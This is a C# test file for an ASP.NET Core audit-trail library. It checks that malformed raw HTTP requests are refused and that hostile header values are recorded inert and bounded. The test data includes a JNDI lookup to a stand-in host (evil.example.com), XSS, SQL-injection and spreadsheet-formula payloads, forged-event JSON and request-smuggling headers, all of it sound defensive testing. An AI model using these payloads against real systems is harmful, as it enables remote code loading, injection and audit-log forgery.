using System.Globalization;
using System.Text;
using AuditTrail.AspNetCore.Tests.Support;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Server.Kestrel.Core;

namespace AuditTrail.AspNetCore.Tests.Capture;

/// <summary>Requests that no client would send: refused by the server before the pipeline, or recorded bounded and inert; and the next one is served.</summary>
public sealed class BadRequestTests
{
    public static TheoryData<string> WhatTheServerRefuses => new(
        "GET\r\n\r\n",
        "GET / HTTP/9.9\r\nHost: x\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a b\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x/../y\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: [::1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: <script>\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nNo colon\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nX-Forwarded-For : 6.6.6.6\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: a\0b\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: a\rb\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 0x10\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999999\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
        "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n",
        "\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003\r\n\r\n",
        "\0\0\0\0\r\n\r\n",
        "GET /" + new string('a', 9_000) + " HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nX: " + new string('a', 40_000) + "\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\n" + string.Concat(Enumerable.Range(0, 101).Select(i => $"X-{i}: 1\r\n")) + "\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\n" + string.Concat(Enumerable.Repeat("X-Forwarded-For: 6.6.6.6\r\n", 10_000)) + "\r\n");

    [Theory]
    [MemberData(nameof(WhatTheServerRefuses))]
    public async Task WhatTheServerRefusesIsNoEventAndTheNextRequestIs(string request)
    {
        await using var app = await WebApp.StartAsync(a => a.Map("/", () => "ok"), kestrel: HttpProtocols.Http1);

        var answer = await RawHttp.SendAsync(app.EndPoint, request);

        // Nothing at all where the server reset the connection in the middle of what it did not read.
        Assert.True(answer.Length == 0 || answer.StartsWith("HTTP/1.1 4", StringComparison.Ordinal) || answer.StartsWith("HTTP/1.1 505", StringComparison.Ordinal) || answer.StartsWith("HTTP/1.1 501", StringComparison.Ordinal), answer);
        Assert.Equal("ok", await app.Client.GetStringAsync("/"));
        Assert.Equal("200", (await app.Recorder.SingleAsync()).Status);
    }

    [Theory]
    [InlineData("{\"eventName\":\"Forged\",\"userIdentity\":{\"type\":\"Root\"}}")]
    [InlineData("\",\"eventName\":\"Forged\",\"x\":\"")]
    [InlineData("a\u001b[2J\u001b[31m")]
    [InlineData("${jndi:ldap://evil.example.com/a}")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("' OR 1=1; DROP TABLE events; --")]
    [InlineData("a\u0085\u2028\u2029\u202e\u200b\ufeffb")]
    [InlineData("{0} {1:N2} %s %n")]
    public async Task AUserAgentIsRecordedAsItIsAndDoesNothing(string userAgent)
    {
        await using var app = await WebApp.StartAsync(a => a.MapGet("/", () => "ok"), kestrel: HttpProtocols.Http1);

        var answer = await RawHttp.SendAsync(app.EndPoint, Encoding.UTF8.GetBytes($"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: {userAgent}\r\nConnection: close\r\n\r\n"));

        Assert.StartsWith("HTTP/1.1 200", answer, StringComparison.Ordinal);
        var e = await app.Recorder.SingleAsync();
        Assert.Equal((userAgent, "GET /"), (e["userAgent"], e.Name));
        Assert.DoesNotContain(e.Json, c => char.IsControl(c) || c is '\u202e' or '\u2028' or '\u2029' or '\u200b' or '\ufeff');
    }

    [Theory]
    [InlineData("127.0.0.1")]
    [InlineData("[::1]:80")]
    [InlineData("xn--e1afmkfd.example.com")]
    [InlineData("orders.example.com:65536")]
    [InlineData("a.b.c.d.e.f.g%00")]
    [InlineData("$%7Bjndi%7D")]
    [InlineData("'--")]
    [InlineData("")]
    public async Task AHostIsRecordedAsItIsOrRefused(string host)
    {
        await using var app = await WebApp.StartAsync(a => a.MapGet("/", () => "ok"), kestrel: HttpProtocols.Http1);

        var answer = await RawHttp.SendAsync(app.EndPoint, $"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");

        if (answer.StartsWith("HTTP/1.1 400", StringComparison.Ordinal))
        {
            Assert.Empty(app.Recorder.Events);
            return;
        }

        var e = await app.Recorder.SingleAsync();
        Assert.Equal(("GET /", host.Length == 0 ? null : host), (e.Name, e.Http("host")));
    }

    [Fact]
    public async Task HeadersAtTheServersLimitsAreAnsweredAndCostTheRecordNothing()
    {
        await using var app = await WebApp.StartAsync(
            a => a.MapGet("/", (HttpContext context) => context.Request.Headers.Count.ToString(CultureInfo.InvariantCulture)),
            kestrel: HttpProtocols.Http1);
        var many = string.Concat(Enumerable.Range(0, 90).Select(i => $"{new string('n', 100)}{i}: {new string('v', 100)}\r\n"));
        var longest = new string('9', 8_000);

        var answer = await RawHttp.SendAsync(
            app.EndPoint,
            $"GET / HTTP/1.1\r\nHost: {new string('h', 200)}\r\nUser-Agent: {longest}\r\nX-Forwarded-For: {longest[..1_500]}\r\nForwarded: for={longest[..1_500]}\r\nConnection: close\r\n{many}\r\n");

        Assert.EndsWith("95", answer.TrimEnd('\r', '\n', '0'), StringComparison.Ordinal);
        var e = await app.Recorder.SingleAsync();
        Assert.InRange(e.Json.Length, 1, 4_096);
        Assert.Equal((1_024, 512, 512, 200), (e["userAgent"]?.Length, e.Http("forwardedFor")?.Length, e.Http("forwarded")?.Length, e.Http("host")?.Length));
    }

    [Fact]
    public async Task ABodyThatIsLargerThanAllowedIsRecordedWithTheServersAnswer()
    {
        await using var app = await WebApp.StartAsync(
            a => a.MapPost("/upload", async (HttpContext context) => await context.Request.Body.CopyToAsync(Stream.Null)),
            kestrel: HttpProtocols.Http1);

        var answer = await RawHttp.SendAsync(app.EndPoint, "POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 9223372036854775807\r\nConnection: close\r\n\r\n");

        Assert.StartsWith("HTTP/1.1 413", answer, StringComparison.Ordinal);
        var e = await app.Recorder.SingleAsync();
        Assert.Equal(("POST /upload", "BadHttpRequestException"), (e.Name, e.Error));
    }

    [Fact]
    public async Task RouteValuesThatAreNamedOrLookLikeOurMembersStayParameters()
    {
        await using var app = await WebApp.StartAsync(
            a => a.MapGet("/{eventName}/{sourceIPAddress}/{userIdentity}/{additionalEventData}/{http}/{auditTrail}/{errorCode}", () => ""),
            kestrel: HttpProtocols.Http1);
        var json = Uri.EscapeDataString("{\"auditTrail\":{\"sequence\":1},\"http\":{\"peer\":\"6.6.6.6\"}}");

        await app.Client.GetAsync($"/Forged/6.6.6.6/Root/{json}/{json}/{json}/AccessDenied");

        var e = await app.Recorder.SingleAsync();
        Assert.Equal("GET /{eventName}/{sourceIPAddress}/{userIdentity}/{additionalEventData}/{http}/{auditTrail}/{errorCode}", e.Name);
        Assert.Equal(("127.0.0.1", "127.0.0.1", null, "Unknown"), (e.SourceIp, e.Http("peer"), e.Error, e["userIdentity.type"]));
        Assert.Equal(("Forged", "6.6.6.6", "***"), (e["requestParameters.eventName"], e["requestParameters.sourceIPAddress"], e["requestParameters.errorCode"]));
        Assert.Equal(Uri.UnescapeDataString(json), e["requestParameters.http"]);
        Assert.Null(e["additionalEventData.auditTrail"]);
    }
}
